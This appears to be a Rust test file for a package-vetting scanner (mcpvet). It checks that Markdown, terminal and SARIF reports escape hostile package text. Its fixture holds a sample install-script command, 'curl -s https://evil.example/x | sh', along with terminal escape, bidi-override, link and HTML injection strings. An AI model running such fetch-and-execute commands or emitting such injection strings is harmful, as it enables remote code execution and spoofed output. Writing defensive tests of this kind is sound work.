//! Markdown, text and SARIF rendering of a report built in code (deterministic: no clock, no
//! temporary paths), with package text that tries to act on a terminal or on Markdown.

use mcpvet::analyze::SurfaceKind;
use mcpvet::fetch::PackageInfo;
use mcpvet::finding::{Category, Finding, Severity};
use mcpvet::provenance::{Provenance, Signal, Status};
use mcpvet::report::text::Style;
use mcpvet::report::{
    markdown, sarif, text, Capabilities, FileEntry, HostEntry, Report, Stats, ToolEntry, ToolInfo,
    SCHEMA,
};

fn finding(
    rule: &str,
    category: Category,
    severity: Severity,
    path: &str,
    line: Option<u32>,
    message: &str,
) -> Finding {
    let mut f = Finding::new(rule, category, severity, path, message);
    f.line = line;
    f.column = line.map(|_| 5);
    f.end_line = line;
    f
}

fn fixture() -> Report {
    let package = PackageInfo {
        ecosystem: "npm".into(),
        name: "@acme/weather-mcp".into(),
        version: "1.2.0".into(),
        spec: "npm:@acme/weather-mcp@1.2.0".into(),
        source: "https://registry.npmjs.org/@acme/weather-mcp/-/weather-mcp-1.2.0.tgz".into(),
        digest: "sha512-AAAA".into(),
        verified: true,
        pinned: true,
        moving: false,
        commit: None,
        artifact: "tarball".into(),
        notes: vec![],
    };
    let file = |path: &str, language: &'static str, bytes: u64| FileEntry {
        path: path.into(),
        language,
        bytes,
        sha256: "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef".into(),
        analyzed: language == "javascript",
        truncated: false,
        executable: false,
    };
    let findings = vec![
        finding(
            "manifest.install-script.npm-install",
            Category::InstallScript,
            Severity::Critical,
            "package.json",
            Some(7),
            "postinstall script runs on every install of the package: fetches from the network (curl); pipes into a shell or interpreter (sh)",
        )
        .with("script", "postinstall")
        .with("command", "curl -s https://evil.example/x | sh"),
        {
            let mut f = finding(
                "js.network.fetch",
                Category::Network,
                Severity::Medium,
                "dist/index.js",
                Some(42),
                "outbound HTTP request",
            )
            .with("url", "https://api.weather.example/v1?q=a|b");
            f.tool = Some("get_forecast".into());
            f
        },
        finding(
            "js.env.read",
            Category::EnvRead,
            Severity::Low,
            "dist/index.js",
            Some(3),
            "reads an environment variable",
        )
        .with("variable", "WEATHER_API_KEY"),
        // Package text that tries to act: ANSI escape, bidi override, Markdown link, HTML,
        // a mention, pipes and backticks, a newline.
        finding(
            "js.eval.eval",
            Category::Eval,
            Severity::High,
            "dist/\u{1b}[31mevil\u{202e}sj.js",
            Some(1),
            "eval() of `x` | see [docs](https://evil.example) <img src=x> @admin\nnext",
        )
        .with("argument", "a`b|c"),
        finding(
            "archive.skipped-dir",
            Category::Archive,
            Severity::Info,
            "node_modules",
            None,
            "folder not read (version control or installed dependencies)",
        ),
    ];
    let mut report = Report {
        dependencies: None,
        schema: SCHEMA,
        tool: ToolInfo::default(),
        package,
        files: vec![
            file("dist/index.js", "javascript", 20_480),
            file("package.json", "json", 812),
        ],
        findings,
        capabilities: Capabilities {
            hosts: vec![HostEntry {
                host: "api.weather.example".into(),
                scheme: "https".into(),
                kind: "public".into(),
            }],
            env: vec!["WEATHER_API_KEY".into()],
            exec: vec![],
            fs_write: vec![],
            sensitive_reads: vec!["~/.npmrc".into()],
        },
        tools: vec![ToolEntry {
            name: "get_forecast".into(),
            kind: SurfaceKind::Tool,
            description: Some("Get the forecast".into()),
            schema: None,
            path: "dist/index.js".into(),
            line: 40,
            findings: vec![1],
            hash: "feedface".into(),
        }],
        risk: mcpvet::risk::Risk::default(),
        provenance: Provenance {
            class: "community-unknown".into(),
            evidence: vec!["no owner rule matched | and a `threshold` fails".into()],
            signals: vec![
                Signal::new("publisher", "evil\x1b[31m|user", Status::Ok),
                Signal::new("version-age", "2 days", Status::Warn),
                Signal::new(
                    "maintainers",
                    "not supplied by the registry",
                    Status::Unknown,
                ),
            ],
        },
        stats: Stats {
            files: 2,
            bytes: 21_292,
            entries: 3,
            elapsed_ms: 7,
        },
    };
    report.risk = mcpvet::risk::assess(&report);
    report
}

/// The crate version changes with releases; snapshots should not.
fn redact_version(s: &str) -> String {
    s.replace(env!("CARGO_PKG_VERSION"), "[version]")
}

fn assert_no_raw_controls(s: &str) {
    for c in s.chars() {
        assert!(
            c == '\n' || !mcpvet::util::needs_escape(c),
            "raw {:?} in output:\n{s}",
            c
        );
    }
}

#[test]
fn markdown_snapshot() {
    let md = markdown::render(&fixture());
    assert_no_raw_controls(&md);
    assert!(
        md.contains("see `[docs](https://evil.example)`"),
        "a link becomes code"
    );
    assert!(md.contains(r"\<img src=x\>"), "HTML is neutralised");
    assert!(md.contains(r"`@admin\u{a}next`"), "mentions are code");
    insta::assert_snapshot!("markdown", redact_version(&md));
}

#[test]
fn markdown_table_rows_keep_their_cells() {
    let md = markdown::render(&fixture());
    // Every finding row has exactly the five cells of its header, whatever the package text.
    let mut rows = 0;
    for line in md.lines().filter(|l| {
        l.starts_with("| critical |")
            || l.starts_with("| high |")
            || l.starts_with("| medium |")
            || l.starts_with("| low |")
            || l.starts_with("| info |")
    }) {
        let mut cells = 0;
        let mut escaped = false;
        for c in line.chars() {
            match c {
                '\\' if !escaped => escaped = true,
                '|' if !escaped => cells += 1,
                _ => escaped = false,
            }
            if c != '\\' {
                escaped = false;
            }
        }
        assert_eq!(cells, 6, "six unescaped pipes in {line}");
        rows += 1;
    }
    assert_eq!(rows, 5);
}

#[test]
fn text_snapshot_plain() {
    let t = text::render(&fixture(), Style::PLAIN);
    assert_no_raw_controls(&t);
    assert!(t.contains("dist/\\u{1b}[31mevil\\u{202e}sj.js:1"), "{t}");
    insta::assert_snapshot!("text", redact_version(&t));
}

#[test]
fn text_colour_only_wraps_our_own_words() {
    let t = text::render(&fixture(), Style::COLOR);
    // Strip the SGR sequences we add; what is left must hold no raw control character.
    let mut plain = String::new();
    let mut rest = t.as_str();
    while let Some(i) = rest.find('\u{1b}') {
        plain.push_str(&rest[..i]);
        let after = &rest[i + 1..];
        let end = after.find('m').expect("SGR sequence ends with m");
        let params = &after[..end];
        assert!(
            after.starts_with('[') && params[1..].chars().all(|c| c.is_ascii_digit() || c == ';'),
            "only SGR colour codes: {params:?}"
        );
        rest = &after[end + 1..];
    }
    plain.push_str(rest);
    assert_no_raw_controls(&plain);
    assert!(t.contains("\u{1b}[1;31mcritical\u{1b}[0m"));
    assert_eq!(plain, text::render(&fixture(), Style::PLAIN));
}

#[test]
fn sarif_structure() {
    let log = sarif::log(&[fixture(), fixture()]);
    assert_eq!(log["$schema"], sarif::SCHEMA_URI);
    assert_eq!(log["version"], "2.1.0");
    let runs = log["runs"].as_array().expect("runs");
    assert_eq!(runs.len(), 2);
    let run = &runs[0];
    let driver = &run["tool"]["driver"];
    assert_eq!(driver["name"], "mcpvet");
    let rules = driver["rules"].as_array().expect("rules");
    let ids: Vec<&str> = rules.iter().map(|r| r["id"].as_str().unwrap()).collect();
    assert_eq!(
        ids,
        [
            "manifest.install-script.npm-install",
            "js.network.fetch",
            "js.env.read",
            "js.eval.eval",
            "archive.skipped-dir"
        ]
    );
    assert_eq!(rules[0]["defaultConfiguration"]["level"], "error");
    assert_eq!(rules[0]["properties"]["security-severity"], "9.5");
    assert_eq!(
        rules[0]["properties"]["tags"],
        serde_json::json!(["install-script", "security"])
    );
    assert!(rules
        .iter()
        .all(|r| r["shortDescription"]["text"].is_string()));
    let results = run["results"].as_array().expect("results");
    assert_eq!(results.len(), 5);
    for r in results {
        let i = r["ruleIndex"].as_u64().unwrap() as usize;
        assert_eq!(rules[i]["id"], r["ruleId"]);
        assert!(r["message"]["text"].is_string());
        assert!(["error", "warning", "note"].contains(&r["level"].as_str().unwrap()));
        assert_eq!(
            r["partialFingerprints"]["mcpvet/v1"]
                .as_str()
                .unwrap()
                .len(),
            32
        );
    }
    let levels: Vec<&str> = results
        .iter()
        .map(|r| r["level"].as_str().unwrap())
        .collect();
    assert_eq!(levels, ["error", "warning", "note", "error", "note"]);
    let evil = &results[3]["locations"][0]["physicalLocation"];
    assert_eq!(
        evil["artifactLocation"]["uri"],
        "dist/%1B%5B31mevil%E2%80%AEsj.js"
    );
    assert_eq!(evil["region"]["startLine"], 1);
    assert_eq!(evil["region"]["startColumn"], 5);
    let no_line = &results[4]["locations"][0]["physicalLocation"];
    assert!(no_line.get("region").is_none(), "no region without a line");
    assert_eq!(results[1]["properties"]["tool"], "get_forecast");
    assert_eq!(results[1]["properties"]["category"], "network");
    assert_eq!(
        run["automationDetails"]["id"],
        "mcpvet/npm:@acme/weather-mcp/"
    );
    // Same input, same fingerprints.
    assert_eq!(
        runs[0]["results"][2]["partialFingerprints"],
        runs[1]["results"][2]["partialFingerprints"]
    );
}

#[test]
fn sarif_text_is_terminal_safe_and_lossless() {
    let mut out = Vec::new();
    sarif::to_writer(&mut out, &[fixture()]).unwrap();
    let s = String::from_utf8(out).unwrap();
    assert_no_raw_controls(&s);
    let v: serde_json::Value = serde_json::from_str(&s).unwrap();
    assert_eq!(
        v["runs"][0]["results"][3]["message"]["text"],
        fixture().findings[3].message
    );
}
